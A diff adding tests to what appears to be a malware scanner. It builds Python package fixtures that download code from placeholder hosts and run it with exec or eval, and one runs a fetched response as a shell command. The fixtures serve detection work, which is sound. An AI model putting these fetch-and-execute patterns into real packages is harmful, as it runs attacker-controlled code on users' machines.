@@ -225,3 +225,66 @@ test('source in bytes is read in its own encoding: names in wide letters are wha
 
   expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10 }]);
 });
+
+test('a module that is loaded from the address that a caller gives is no malware, and is one when the code gives it', async () => {
+  const load = [
+    'import urllib.request',
+    'def load(url, names):',
+    '    with urllib.request.urlopen(url) as response:',
+    '        source = response.read()',
+    "    exec(compile(source, url, 'exec'), names)",
+  ];
+
+  const asked = await inspect('remote-code', wheel({ 'pkg/preload.py': python(...load) }));
+  const fixed = await inspect(
+    'remote-code',
+    wheel({ 'pkg/preload.py': python(...load, "load('https://updates.vendor.invalid/a.py', {})") }),
+  );
+
+  expect(asked).toMatchObject([{ class: 'suspicious', score: 3, context: 'call' }]);
+  expect(fixed[0]).toMatchObject({ class: 'malware', score: 10, context: 'import' });
+});
+
+test('a default address in the code is not the caller’s choice', async () => {
+  const file = wheel({
+    'pkg/preload.py': python(
+      'import requests',
+      'def load(url=None):',
+      "    exec(requests.get(url or 'https://updates.vendor.invalid/a.py').text)",
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 9, context: 'call' }]);
+});
+
+test('an answer that is read with eval on call is careless, and malware at import', async () => {
+  const ask = [
+    'import requests',
+    'def ask():',
+    "    return eval(requests.get('https://peers.vendor.invalid/files').text)",
+  ];
+
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': python(...ask) }))).toMatchObject([
+    { class: 'suspicious', score: 3 },
+  ]);
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': python(...ask, 'ask()') }))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import' },
+  ]);
+});
+
+test('an editor that opens a file named by an answer is no order from afar; the answer as a command is', async () => {
+  const edit = (command: string) =>
+    wheel({
+      'pkg/edit.py': python(
+        'import os, subprocess, requests',
+        'def edit(name):',
+        "    answer = requests.get('https://api.vendor.invalid/next').text",
+        `    subprocess.call(${command}, shell=True)`,
+      ),
+    });
+
+  expect(await inspect('remote-code', edit("'%s %s' % (os.environ['EDITOR'], answer)"))).not.toContainEqual(
+    expect.objectContaining({ class: 'malware' }),
+  );
+  expect(await inspect('remote-code', edit('answer'))).toMatchObject([{ class: 'malware', score: 6 }]);
+});
